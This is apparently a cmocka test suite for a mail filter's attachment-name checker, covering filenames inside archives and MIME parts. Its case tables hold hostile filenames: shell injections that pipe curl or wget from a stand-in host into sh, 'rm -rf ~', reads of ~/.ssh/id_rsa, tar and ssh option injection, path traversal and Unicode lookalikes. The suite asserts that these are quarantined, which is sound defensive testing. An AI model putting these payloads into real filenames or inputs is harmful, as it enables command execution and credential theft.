/*
 * test_names.c - names built to attack the tools that handle them (issue
 * 10 item 3, the CVE-2023-2868 class): the grammar of namecheck.c over a
 * table of hostile and ordinary names, then tar, tar.gz, zip and 7z
 * archives written here with libarchive's writer (hostile and ordinary
 * member names, symlink, hardlink, device and FIFO entries), nested and
 * compressed, and MIME names (RFC 2231, RFC 2047, uuencode) through
 * attach_evaluate, each asserted by reason and detail; the ordinary
 * ones asserted clean.  RW_TEST_VERBOSE=1 prints every item.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <locale.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <archive.h>
#include <archive_entry.h>

#include "util/arena.h"
#include "attach/attach.h"
#include "attach/namecheck.h"
#include "attach/spool.h"
#include "config/config.h"
#include "verdict/verdict.h"
#include "msgfix.h"

#define SH	NAMECHECK_SHELL
#define TR	NAMECHECK_TRAVERSAL
#define AB	NAMECHECK_ABSOLUTE
#define CT	NAMECHECK_CONTROL

static const struct name_case {
	const char *name;
	unsigned kinds;
	int lookalike;
} name_cases[] = {
	/* ordinary: what legitimate mail carries */
	{ "Q&A.docx", 0, 0 },
	{ "O'Brien.pdf", 0, 0 },
	{ "Smith & Sons.pdf", 0, 0 },
	{ "AT&T invoice.pdf", 0, 0 },
	{ "R&D/plan.pdf", 0, 0 },
	{ "a;b", 0, 0 },
	{ "Budget; final.xlsx", 0, 0 },
	{ "notes; draft version.docx", 0, 0 },
	{ "Tom & Jerry episode 2.pdf", 0, 0 },
	{ "Salt & pepper - recipe.pdf", 0, 0 },
	{ "Report (final) - v2.pdf", 0, 0 },
	{ "Minutes [draft], 2024-05-01.docx", 0, 0 },
	{ "Rock 'n' roll.mp3", 0, 0 },
	{ "Peter`s Bericht.pdf", 0, 0 },	/* one backtick: no pair */
	{ "Bericht M\xc3\xa4rz \xc3\x9c" "bersicht.pdf", 0, 0 },
	{ "\xe5\xa0\xb1\xe5\x91\x8a\xef\xbc\x88\xe6\x9c\x80\xe7\xb5\x82"
	    "\xef\xbc\x89\xef\xbc\x9b\xe7\xac\xac\xe4\xba\x8c.pdf", 0, 0 },
	{ "\xe8\xa3\xbd\xe5\x93\x81\xef\xbd\x9c\xe4\xbc\x9a\xe7\xa4\xbe.pdf",
	    0, 0 },				/* fullwidth bar in a title */
	{ "\xc2\xa5" "5000 invoice.pdf", 0, 0 },	/* yen sign first */
	{ "\xf0\x9f\x98\x80 party.jpg", 0, 0 },
	{ "-draft.pdf", 0, 0 },
	{ "docs/sub/a.pdf", 0, 0 },
	{ "Wait....pdf", 0, 0 },
	{ "a/. /b", 0, 0 },
	{ "Price $5.pdf", 0, 0 },
	{ "x&&y", 0, 0 },
	{ "~$Report.docx", 0, 0 },		/* Office lock file */
	{ "\x85\x82t\xe9.txt", 0, 0 },		/* CP437/1252 bytes */
	/* shell */
	{ "'`echo aGk= | base64 -d | sh`'.txt", SH, 0 },
	{ "\"`id`\".pdf", SH, 0 },
	{ "a`id`b", SH, 0 },
	{ "'$(curl http://e.example/x|sh)'.tar", SH, 0 },
	{ "$(id).pdf", SH, 0 },
	{ "${IFS}x.pdf", SH, 0 },
	{ "a<(id)", SH, 0 },
	{ "x; curl http://e.example/x | sh", SH, 0 },
	{ "x;sh", SH, 0 },
	{ "x|sh", SH, 0 },
	{ "x || wget -O- e.example", SH, 0 },
	{ "a && rm -rf ~", SH, 0 },
	{ "a; cat /etc/passwd", SH, 0 },
	{ "a & kill -9 1", SH, 0 },
	{ "a;/bin/busybox x", SH, 0 },
	{ "a;$SHELL", SH, 0 },
	{ "& CMD.EXE /c calc", SH, 0 },
	{ "a|PowerShell -enc x", SH, 0 },
	{ "x'; reboot; '", SH, 0 },
	{ "x\"|y", SH, 0 },
	{ "x > /etc/passwd", SH, 0 },
	{ "x 2>&1", SH, 0 },
	{ "x < ~/.ssh/id_rsa", SH, 0 },
	{ "--checkpoint-action=exec=sh x.sh", SH, 0 },
	{ "-oProxyCommand=x", SH, 0 },
	/* traversal */
	{ "../../etc/cron.d/x", TR, 0 },
	{ "..\\..\\windows\\win.ini", TR, 0 },
	{ "a/../b", TR, 0 },
	{ "..", TR, 0 },
	{ "...", TR, 0 },
	{ "a/. ./b", TR, 0 },
	/* absolute */
	{ "/etc/passwd", AB, 0 },
	{ "\\\\server\\share\\x.pdf", AB, 0 },
	{ "\\foo", AB, 0 },
	{ "C:\\Windows\\x.dll", AB, 0 },
	{ "c:", AB, 0 },
	{ "c:x.pdf", AB, 0 },
	{ "~/x", AB, 0 },
	{ " /etc/x", AB, 0 },
	{ "/etc/../x", AB | TR, 0 },
	/* control */
	{ "a\nb.pdf", CT, 0 },
	{ "a\rb.pdf", CT, 0 },
	{ "a\x1b[31mb.pdf", CT, 0 },
	{ "a\x7f" "b.pdf", CT, 0 },
	{ "a\xc2\x85" "b.pdf", CT, 0 },		/* NEL, C1 */
	{ "a\xe2\x80\xa8" "b.pdf", CT, 0 },	/* U+2028 */
	{ "a\n;sh", CT | SH, 0 },
	/* lookalikes: what NFKC or best fit makes of them */
	{ "..\xef\xbc\x8f..\xef\xbc\x8f" "etc", TR, 1 },	/* U+FF0F */
	{ "..\xe2\x88\x95x", TR, 1 },			/* U+2215 */
	{ "a/\xe2\x80\xa5/b", TR, 1 },			/* U+2025 */
	{ "a/\xe2\x80\xa6/b", TR, 1 },			/* U+2026 */
	{ "..\xc2\xa5..\xc2\xa5x", TR, 1 },		/* U+00A5 */
	{ "\xef\xbc\x84\xef\xbc\x88id\xef\xbc\x89", SH, 1 },	/* $( */
	{ "\xef\xb9\xa9(id)", SH, 1 },			/* U+FE69 */
	{ "a\xef\xb9\x94sh", SH, 1 },			/* U+FE54 ; */
	{ "a\xcd\xbesh", SH, 1 },			/* U+037E ; */
	{ "a\xef\xbd\x9csh", SH, 1 },			/* U+FF5C | */
	{ "\xef\xbc\x8f" "etc/x", AB, 1 },		/* U+FF0F */
	{ "C\xef\xbc\x9a\xef\xbc\xbcx", AB, 1 },	/* C：＼ */
	{ "\xef\xbc\x87\xef\xbd\x80id\xef\xbd\x80\xef\xbc\x87", SH, 1 },
};

static void
grammar_cases(void **state)
{
	const struct name_case *c;
	struct namecheck nc;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(name_cases) / sizeof(name_cases[0]); i++) {
		c = &name_cases[i];
		namecheck_name(c->name, strlen(c->name), &nc);
		if (nc.kinds != c->kinds || nc.lookalike != c->lookalike ||
		    (c->kinds != 0) != (nc.why != NULL) ||
		    (nc.why != NULL && strncmp(nc.why,
		    namecheck_kind_name(nc.first),
		    strlen(namecheck_kind_name(nc.first))) != 0))
			fail_msg("\"%s\": kinds %x lookalike %d (%s), want "
			    "%x %d", c->name, nc.kinds, nc.lookalike,
			    nc.why != NULL ? nc.why : "-", c->kinds,
			    c->lookalike);
	}
}

/* A long name: the payload past FNAME_MAX bytes of padding is seen. */
static void
payload_behind_padding_is_seen(void **state)
{
	char name[3000];
	struct namecheck nc;

	(void)state;
	memset(name, 'a', sizeof(name));
	memcpy(name + 2000, "$(id)", 5);
	namecheck_name(name, sizeof(name), &nc);
	assert_int_equal(nc.kinds, NAMECHECK_SHELL);
}

/* Linear in the name: 2 MB runs of operators, blanks, dots and
 * separators (a pax path may be that long) take about 0.3 s (bound:
 * 10 s, for sanitizer builds), not the hours a rescan per character
 * would. */
static void
hostile_runs_cost_linear_time(void **state)
{
	static const char fill[] = "&<; ./`";
	size_t n = 2 << 20, i;
	char *name = malloc(n);
	struct namecheck nc;
	clock_t t0;

	(void)state;
	assert_non_null(name);
	t0 = clock();
	for (i = 0; fill[i] != '\0'; i++) {
		memset(name, fill[i], n);
		namecheck_name(name, n, &nc);
	}
	assert_true(clock() - t0 < 10 * CLOCKS_PER_SEC);
	free(name);
}

/* --- archives written at test time ------------------------------------ */

enum fmt { F_TAR, F_TGZ, F_ZIP, F_7Z };

struct entry {
	const char *name;
	unsigned type;			/* AE_IF*; 0 = hardlink */
	const char *data;		/* regular: content; links: target */
};

#define ARCH_BUF	(1 << 20)

/* The archive of n entries in format f; malloc'd, *len bytes. */
static unsigned char *
make_archive(enum fmt f, const struct entry *e, size_t n, size_t *len)
{
	unsigned char *buf = malloc(ARCH_BUF);
	struct archive *a = archive_write_new();
	struct archive_entry *ae;
	locale_t utf8, old;
	size_t i;
	int r;

	/* The writer converts names through the locale (the reader runs
	 * in "C", as the daemon does: arch.c copes). */
	utf8 = newlocale(LC_CTYPE_MASK, "C.UTF-8", (locale_t)0);
	assert_true(utf8 != (locale_t)0);
	old = uselocale(utf8);
	assert_non_null(buf);
	assert_non_null(a);
	r = f == F_ZIP ? archive_write_set_format_zip(a) : f == F_7Z ?
	    archive_write_set_format_7zip(a) :
	    archive_write_set_format_pax_restricted(a);
	assert_int_equal(r, ARCHIVE_OK);
	if (f == F_TGZ)
		assert_int_equal(archive_write_add_filter_gzip(a), ARCHIVE_OK);
	assert_int_equal(archive_write_open_memory(a, buf, ARCH_BUF, len),
	    ARCHIVE_OK);
	for (i = 0; i < n; i++) {
		ae = archive_entry_new();
		archive_entry_set_pathname_utf8(ae, e[i].name);
		archive_entry_set_mtime(ae, 1700000000, 0);
		archive_entry_set_perm(ae, 0644);
		if (e[i].type == 0) {
			archive_entry_set_filetype(ae, AE_IFREG);
			archive_entry_set_hardlink_utf8(ae, e[i].data);
			archive_entry_set_size(ae, 0);
		} else {
			archive_entry_set_filetype(ae, e[i].type);
			if (e[i].type == AE_IFLNK)
				archive_entry_set_symlink_utf8(ae, e[i].data);
			if (e[i].type == AE_IFCHR)
				archive_entry_set_rdev(ae, 0x0103);
			archive_entry_set_size(ae, e[i].type == AE_IFREG ?
			    (la_int64_t)strlen(e[i].data) : 0);
		}
		if (archive_write_header(a, ae) != ARCHIVE_OK)
			fail_msg("writing %s: %s", e[i].name,
			    archive_error_string(a));
		if (e[i].type == AE_IFREG)
			assert_int_equal(archive_write_data(a, e[i].data,
			    strlen(e[i].data)), (la_ssize_t)strlen(e[i].data));
		archive_entry_free(ae);
	}
	assert_int_equal(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	(void)uselocale(old);
	freelocale(utf8);
	return buf;
}

/* A message with one attachment, name, holding d[0..n). */
static char *
message(const char *name, const void *d, size_t n)
{
	char *b64 = msgfix_base64(d, n), *m;
	size_t len;

	assert_non_null(b64);
	len = strlen(b64) + strlen(name) + 512;
	m = malloc(len);
	assert_non_null(m);
	snprintf(m, len, "From: a@sender.example\r\nTo: b@dest.example\r\n"
	    "Subject: files\r\nMIME-Version: 1.0\r\n"
	    "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
	    "--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
	    "--b\r\nContent-Type: application/octet-stream\r\n"
	    "Content-Disposition: attachment; filename=\"%s\"\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--b--\r\n",
	    name, b64);
	free(b64);
	return m;
}

struct result {
	struct arena *a;
	struct attach_results r;
	struct verdict v;
};

static void
dump(const struct result *res)
{
	size_t i, j;

	if (getenv("RW_TEST_VERBOSE") == NULL)
		return;
	for (i = 0; i < res->v.nreasons; i++)
		printf("   reason %s %d [%s]\n", res->v.reasons[i].rule,
		    res->v.reasons[i].score, res->v.reasons[i].detail ?
		    res->v.reasons[i].detail : "");
	for (i = 0; i < res->r.nitems; i++) {
		const struct attach_item *it = &res->r.items[i];

		printf("   item %s path=%s action=%s\n", it->name,
		    it->path ? it->path : "-",
		    verdict_action_name(it->action));
		for (j = 0; j < it->nreasons; j++)
			printf("      %s [%s]\n", it->reasons[j],
			    it->details[j]);
	}
}

static void evaluate_with(const struct config *, const char *,
    struct result *);

static void
evaluate(const char *text, struct result *res)
{
	struct config *cfg = config_default();

	assert_non_null(cfg);
	evaluate_with(cfg, text, res);
	config_free(cfg);
}

/* The config of text (settings, as in a config file). */
static struct config *
config_text(const char *text)
{
	char path[] = "/tmp/rw-names-XXXXXX", err[512];
	struct config *c;
	FILE *fp;
	int fd;

	fd = mkstemp(path);
	assert_true(fd >= 0);
	fp = fdopen(fd, "w");
	assert_non_null(fp);
	fprintf(fp, "authserv_id = \"mx.example\";\n%s", text);
	fclose(fp);
	if (config_load(path, &c, err, sizeof(err)) != 0)
		fail_msg("%s", err);
	unlink(path);
	return c;
}

static void
evaluate_with(const struct config *cfg, const char *text, struct result *res)
{
	struct attach_ctx *ctx;
	struct spool *sp;
	char err[256];

	memset(res, 0, sizeof(*res));
	res->a = arena_new();
	assert_non_null(res->a);
	if ((ctx = attach_ctx_new(cfg, err, sizeof(err))) == NULL)
		fail_msg("%s", err);
	sp = spool_new(res->a, 1 << 20, NULL);
	assert_non_null(sp);
	assert_int_equal(spool_write(sp, text, strlen(text), err,
	    sizeof(err)), 0);
	if (attach_evaluate(ctx, sp, NULL, res->a, &res->r, &res->v, err,
	    sizeof(err)) != 0)
		fail_msg("%s", err);
	attach_ctx_free(ctx);
	dump(res);
}

/* The item at path (members) or named name (parts). */
static const struct attach_item *
find(const struct result *res, const char *path)
{
	size_t i;
	const struct attach_item *it;

	for (i = 0; i < res->r.nitems; i++) {
		it = &res->r.items[i];
		if (strcmp(it->path != NULL ? it->path : it->name, path) == 0)
			return it;
	}
	return NULL;
}

/* Item at path raised rule with a detail holding want; or, rule NULL,
 * raised nothing (and is listed, when listed is set). */
static void
expect_item(const struct result *res, const char *path, const char *rule,
    const char *want, int listed)
{
	const struct attach_item *it = find(res, path);
	char alt[512];
	size_t i;

	/* libarchive's zip reader turns backslashes into slashes */
	if (it == NULL && strlen(path) < sizeof(alt)) {
		for (i = 0; path[i] != '\0'; i++)
			alt[i] = path[i] == '\\' ? '/' : path[i];
		alt[i] = '\0';
		it = find(res, alt);
	}
	if (it == NULL) {
		if (rule == NULL && !listed)
			return;
		fail_msg("no item %s", path);
	}
	if (rule == NULL) {
		if (it->nreasons != 0)
			fail_msg("%s: %s [%s], want nothing", path,
			    it->reasons[0], it->details[0]);
		return;
	}
	for (i = 0; i < it->nreasons; i++)
		if (strcmp(it->reasons[i], rule) == 0) {
			if (strstr(it->details[i], want) == NULL)
				fail_msg("%s: %s detail [%s], want %s", path,
				    rule, it->details[i], want);
			return;
		}
	fail_msg("%s: no %s", path, rule);
}

static int
verdict_has(const struct verdict *v, const char *rule)
{
	size_t i;

	for (i = 0; i < v->nreasons; i++)
		if (strcmp(v->reasons[i].rule, rule) == 0)
			return 1;
	return 0;
}

/* Member names every format carries, and what each must raise. */
static const struct member_want {
	const char *name;
	const char *rule;		/* NULL: ordinary */
	const char *detail;
} members[] = {
	{ "'`echo aGk= | base64 -d | sh`'.txt", "attach_hostile_name",
	    "shell" },
	{ "$(curl e.example|sh).pdf", "attach_hostile_name", "shell: $(" },
	{ "x; rm -rf ~.txt", "attach_hostile_name", "shell: command after ;" },
	{ "../../etc/cron.d/evil", "attach_hostile_name", "traversal" },
	{ "a/../../b.txt", "attach_hostile_name", "traversal" },
	{ "/etc/passwd", "attach_hostile_name", "absolute: /" },
	{ "C:\\Windows\\evil.txt", "attach_hostile_name", "absolute" },
	{ "bell\a.txt", "attach_hostile_name", "control" },
	{ "..\xef\xbc\x8f" "up.txt", "attach_hostile_name", "lookalike" },
	{ "Q&A.docx", NULL, NULL },
	{ "O'Brien & Sons (final) - v2.pdf", NULL, NULL },
	{ "Bericht M\xc3\xa4rz.txt", NULL, NULL },
	{ "\xe5\xa0\xb1\xe5\x91\x8a.txt", NULL, NULL },
	{ "docs/Minutes [draft], a;b.txt", NULL, NULL },
};
#define NMEMBERS	(sizeof(members) / sizeof(members[0]))

/* The entries of an archive of format f: every member above, a
 * directory, and the special entries f can hold. */
static size_t
entries(enum fmt f, struct entry *e)
{
	size_t n = 0, i;

	for (i = 0; i < NMEMBERS; i++)
		e[n++] = (struct entry){ members[i].name, AE_IFREG,
		    "plain text\n" };
	e[n++] = (struct entry){ "docs/", AE_IFDIR, NULL };
	e[n++] = (struct entry){ "link", AE_IFLNK, "/etc/shadow" };
	if (f == F_TAR || f == F_TGZ) {
		e[n++] = (struct entry){ "hard", 0, "Q&A.docx" };
		e[n++] = (struct entry){ "tty", AE_IFCHR, NULL };
		e[n++] = (struct entry){ "pipe", AE_IFIFO, NULL };
	}
	return n;
}

static void
check_archive(enum fmt f, const char *aname)
{
	struct entry e[NMEMBERS + 8];
	struct result res;
	unsigned char *buf;
	char path[512], *m;
	size_t len, n, i;

	n = entries(f, e);
	buf = make_archive(f, e, n, &len);
	m = message(aname, buf, len);
	free(buf);
	evaluate(m, &res);
	free(m);
	for (i = 0; i < NMEMBERS; i++) {
		snprintf(path, sizeof(path), "%s/%s", aname, members[i].name);
		expect_item(&res, path, members[i].rule, members[i].detail,
		    1);
	}
	snprintf(path, sizeof(path), "%s/docs/", aname);
	expect_item(&res, path, NULL, NULL, 0);
	snprintf(path, sizeof(path), "%s/link", aname);
	expect_item(&res, path, "attach_special_member",
	    "symlink -> /etc/shadow", 1);
	if (f == F_TAR || f == F_TGZ) {
		snprintf(path, sizeof(path), "%s/hard", aname);
		expect_item(&res, path, "attach_special_member",
		    "hardlink -> Q&A.docx", 1);
		snprintf(path, sizeof(path), "%s/tty", aname);
		expect_item(&res, path, "attach_special_member", "device", 1);
		snprintf(path, sizeof(path), "%s/pipe", aname);
		expect_item(&res, path, "attach_special_member", "fifo", 1);
	}
	assert_true(verdict_has(&res.v, "attach_hostile_name"));
	assert_true(verdict_has(&res.v, "attach_special_member"));
	/* A hard rule, like a program: quarantined whatever the score. */
	assert_int_equal(res.r.hard_action, VERDICT_QUARANTINE);
	assert_non_null(res.r.hard_rule);
	assert_true(strcmp(res.r.hard_rule, "attach_hostile_name") == 0 ||
	    strcmp(res.r.hard_rule, "attach_special_member") == 0);
	arena_free(res.a);
}

static void
tar_members_are_judged(void **state)
{
	(void)state;
	check_archive(F_TAR, "names.tar");
}

static void
targz_members_are_judged(void **state)
{
	(void)state;
	check_archive(F_TGZ, "names.tar.gz");
}

static void
zip_members_are_judged(void **state)
{
	(void)state;
	check_archive(F_ZIP, "names.zip");
}

static void
sevenzip_members_are_judged(void **state)
{
	(void)state;
	check_archive(F_7Z, "names.7z");
}

/* Ordinary archives stay clean: no reason, no action. */
static void
ordinary_archives_are_clean(void **state)
{
	static const struct entry e[] = {
		{ "Q&A.docx", AE_IFREG, "x\n" },
		{ "Smith & Sons; draft.pdf", AE_IFREG, "x\n" },
		{ "reports/", AE_IFDIR, NULL },
		{ "reports/Report (final) - v2.txt", AE_IFREG, "x\n" },
		{ "reports/O'Brien.txt", AE_IFREG, "x\n" },
		{ "\xe5\xa0\xb1\xe5\x91\x8a/\xe8\xa1\xa8.txt", AE_IFREG,
		    "x\n" },
	};
	static const enum fmt fmts[] = { F_TAR, F_TGZ, F_ZIP, F_7Z };
	static const char *const names[] = { "a.tar", "a.tar.gz", "a.zip",
	    "a.7z" };
	struct result res;
	unsigned char *buf;
	char *m;
	size_t len, i;

	(void)state;
	for (i = 0; i < 4; i++) {
		buf = make_archive(fmts[i], e, sizeof(e) / sizeof(e[0]), &len);
		m = message(names[i], buf, len);
		free(buf);
		evaluate(m, &res);
		free(m);
		if (res.v.nreasons != 0)
			fail_msg("%s: %s [%s]", names[i], res.v.reasons[0].rule,
			    res.v.reasons[0].detail);
		assert_int_equal(res.r.hard_action, VERDICT_ACCEPT);
		/* the members were seen, not skipped */
		assert_true(res.r.nitems >= 6);
		arena_free(res.a);
	}
}

/* A 7z's names are UTF-16: read in the "C" locale, one character
 * outside ASCII made libarchive give no name at all, and a banned
 * extension went unseen. */
static void
sevenzip_names_outside_ascii_are_read(void **state)
{
	static const struct entry e[] = {
		{ "Rechnung_M\xc3\xa4rz.exe", AE_IFREG, "x\n" },
		{ "\xe5\xa0\xb1\xe5\x91\x8a\xef\xbc\x8f..\xef\xbc\x8f"
		    "x.txt", AE_IFREG, "x\n" },
	};
	struct result res;
	unsigned char *buf;
	size_t len;
	char *m;

	(void)state;
	buf = make_archive(F_7Z, e, 2, &len);
	m = message("r.7z", buf, len);
	free(buf);
	evaluate(m, &res);
	free(m);
	expect_item(&res, "r.7z/Rechnung_M\xc3\xa4rz.exe",
	    "attach_banned_member", "Rechnung_M<U+00E4>rz.exe", 1);
	expect_item(&res, "r.7z/\xe5\xa0\xb1\xe5\x91\x8a\xef\xbc\x8f.."
	    "\xef\xbc\x8fx.txt", "attach_hostile_name", "lookalike", 1);
	arena_free(res.a);
}

/* An archive of format f holding one member, name, of d[0..n) (binary:
 * make_archive takes text); malloc'd, *len bytes. */
static unsigned char *
wrap(enum fmt f, const char *name, const void *d, size_t n, size_t *len)
{
	unsigned char *buf = malloc(ARCH_BUF);
	struct archive *a = archive_write_new();
	struct archive_entry *ae = archive_entry_new();

	assert_non_null(buf);
	assert_int_equal(f == F_ZIP ? archive_write_set_format_zip(a) :
	    archive_write_set_format_pax_restricted(a), ARCHIVE_OK);
	if (f == F_TGZ)
		assert_int_equal(archive_write_add_filter_gzip(a), ARCHIVE_OK);
	assert_int_equal(archive_write_open_memory(a, buf, ARCH_BUF, len),
	    ARCHIVE_OK);
	archive_entry_set_pathname(ae, name);
	archive_entry_set_filetype(ae, AE_IFREG);
	archive_entry_set_perm(ae, 0644);
	archive_entry_set_size(ae, (la_int64_t)n);
	assert_int_equal(archive_write_header(a, ae), ARCHIVE_OK);
	assert_int_equal(archive_write_data(a, d, n), (la_ssize_t)n);
	archive_entry_free(ae);
	assert_int_equal(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	return buf;
}

/* A 7z inside a zip inside a tar.gz: names and special entries at every
 * depth. */
static void
nested_and_compressed_archives_are_judged(void **state)
{
	static const struct entry inner[] = {
		{ "ok.txt", AE_IFREG, "x\n" },
		{ "`reboot`.txt", AE_IFREG, "x\n" },
		{ "deep/../../x", AE_IFREG, "x\n" },
		{ "ln", AE_IFLNK, "../../../root" },
	};
	static const char *const in = "outer.tar.gz/mid.zip/inner.7z/";
	struct result res;
	unsigned char *b1, *b2, *b3;
	size_t l1, l2, l3;
	char path[256], *m;

	(void)state;
	b1 = make_archive(F_7Z, inner, 4, &l1);
	b2 = wrap(F_ZIP, "inner.7z", b1, l1, &l2);
	b3 = wrap(F_TGZ, "mid.zip", b2, l2, &l3);
	free(b1);
	free(b2);
	m = message("outer.tar.gz", b3, l3);
	free(b3);
	evaluate(m, &res);
	free(m);
	snprintf(path, sizeof(path), "%sok.txt", in);
	expect_item(&res, path, NULL, NULL, 1);
	snprintf(path, sizeof(path), "%s`reboot`.txt", in);
	expect_item(&res, path, "attach_hostile_name", "shell: backticks", 1);
	snprintf(path, sizeof(path), "%sdeep/../../x", in);
	expect_item(&res, path, "attach_hostile_name", "traversal", 1);
	snprintf(path, sizeof(path), "%sln", in);
	expect_item(&res, path, "attach_special_member",
	    "symlink -> ../../../root", 1);
	assert_int_equal(find(&res, path)->depth, 3);
	assert_int_equal(res.r.hard_action, VERDICT_QUARANTINE);
	assert_null(res.r.truncated);
	arena_free(res.a);
}

/* MIME names: RFC 2231, RFC 2047, plain, uuencoded; the part's item
 * is found by its last component. */
static void
mime_and_uuencoded_names_are_judged(void **state)
{
	static const char text[] =
	    "From: a@sender.example\r\nTo: b@dest.example\r\n"
	    "Subject: names\r\nMIME-Version: 1.0\r\n"
	    "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n"
	    "--b\r\nContent-Type: text/plain\r\n\r\n"
	    "begin 644 ../../uu-trav.txt\r\n"
	    "#:&D*\r\n`\r\nend\r\n"
	    "--b\r\nContent-Type: application/octet-stream\r\n"
	    "Content-Disposition: attachment;\r\n"
	    " filename*=utf-8''..%2F..%2Fetc%2Fcron.d%2Ftrav2231\r\n\r\n"
	    "x\r\n"
	    "--b\r\nContent-Type: application/octet-stream\r\n"
	    "Content-Disposition: attachment;\r\n"
	    " filename=\"=?utf-8?B?JChpZCkucGRm?=\"\r\n\r\nx\r\n"
	    "--b\r\nContent-Type: application/octet-stream\r\n"
	    "Content-Disposition: attachment;\r\n"
	    " filename*=utf-8''ctl%0A.pdf\r\n\r\nx\r\n"
	    "--b\r\nContent-Type: application/octet-stream\r\n"
	    "Content-Disposition: attachment;\r\n"
	    " filename*=utf-8''C%3A%5Cdrive.pdf\r\n\r\nx\r\n"
	    "--b\r\nContent-Type: application/octet-stream; name=\"x; "
	    "curl e.example | sh\"\r\n\r\nx\r\n"
	    "--b\r\nContent-Type: application/pdf\r\n"
	    "Content-Disposition: attachment;\r\n"
	    " filename=\"O'Brien & Sons (final) - Q&A.pdf\"\r\n\r\nx\r\n"
	    "--b\r\nContent-Type: application/pdf\r\n"
	    "Content-Disposition: attachment;\r\n"
	    " filename=\"=?utf-8?B?QmVyaWNodCBNw6RyeiDloLHlkYoucGRm?=\"\r\n"
	    "\r\nx\r\n--b--\r\n";
	struct result res;

	(void)state;
	evaluate(text, &res);
	expect_item(&res, "uu-trav.txt", "attach_hostile_name",
	    "../../uu-trav.txt: traversal", 1);
	expect_item(&res, "trav2231", "attach_hostile_name", "traversal", 1);
	expect_item(&res, "$(id).pdf", "attach_hostile_name", "shell: $(", 1);
	expect_item(&res, "ctl.pdf", "attach_hostile_name", "control", 1);
	expect_item(&res, "drive.pdf", "attach_hostile_name",
	    "absolute: drive letter", 1);
	expect_item(&res, "x; curl e.example | sh", "attach_hostile_name",
	    "shell: command after ;", 1);
	expect_item(&res, "O'Brien & Sons (final) - Q&A.pdf", NULL, NULL, 1);
	expect_item(&res, "Bericht M\xc3\xa4rz \xe5\xa0\xb1\xe5\x91\x8a.pdf",
	    NULL, NULL, 1);
	/* control characters are no longer attach_name_trick's */
	assert_false(verdict_has(&res.v, "attach_name_trick"));
	assert_int_equal(res.r.hard_action, VERDICT_QUARANTINE);
	assert_string_equal(res.r.hard_rule, "attach_hostile_name");
	arena_free(res.a);
}

/* The policy: a hard rule under attach_executable_quarantine, whatever
 * the thresholds; an ".ext=accept" override does not exempt a hostile
 * name (the attacker picked the extension), it still exempts an
 * ordinary one. */
static void
hostile_names_are_a_hard_rule_not_exempt_by_extension(void **state)
{
	static const struct entry e[] = {
		{ "$(id).txt", AE_IFREG, "x\n" },
		{ "notes.txt", AE_IFREG, "x\n" },
	};
	struct config *c;
	struct result res;
	unsigned char *buf;
	size_t len;
	char *m;

	(void)state;
	buf = make_archive(F_TAR, e, 2, &len);
	m = message("a.tar", buf, len);
	free(buf);
	c = config_text("quarantine_score = 50;\n"
	    "attach_action_overrides = [\".txt=accept\"];\n");
	evaluate_with(c, m, &res);
	expect_item(&res, "a.tar/$(id).txt", "attach_hostile_name",
	    "shell: $(", 1);
	assert_int_equal(find(&res, "a.tar/$(id).txt")->action,
	    VERDICT_QUARANTINE);
	assert_false(find(&res, "a.tar/$(id).txt")->flags & ATTACH_EXEMPT);
	assert_int_equal(res.r.hard_action, VERDICT_QUARANTINE);
	assert_string_equal(res.r.hard_rule, "attach_hostile_name");
	arena_free(res.a);
	config_free(c);
	/* Without the hard rule it is a score: 10 < 50, no action. */
	c = config_text("quarantine_score = 50;\n"
	    "attach_executable_quarantine = false;\n");
	evaluate_with(c, m, &res);
	expect_item(&res, "a.tar/$(id).txt", "attach_hostile_name",
	    "shell: $(", 1);
	assert_int_equal(res.r.hard_action, VERDICT_ACCEPT);
	arena_free(res.a);
	config_free(c);
	free(m);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(grammar_cases),
		cmocka_unit_test(payload_behind_padding_is_seen),
		cmocka_unit_test(hostile_runs_cost_linear_time),
		cmocka_unit_test(tar_members_are_judged),
		cmocka_unit_test(targz_members_are_judged),
		cmocka_unit_test(zip_members_are_judged),
		cmocka_unit_test(sevenzip_members_are_judged),
		cmocka_unit_test(ordinary_archives_are_clean),
		cmocka_unit_test(sevenzip_names_outside_ascii_are_read),
		cmocka_unit_test(nested_and_compressed_archives_are_judged),
		cmocka_unit_test(mime_and_uuencoded_names_are_judged),
		cmocka_unit_test(
		    hostile_names_are_a_hard_rule_not_exempt_by_extension),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
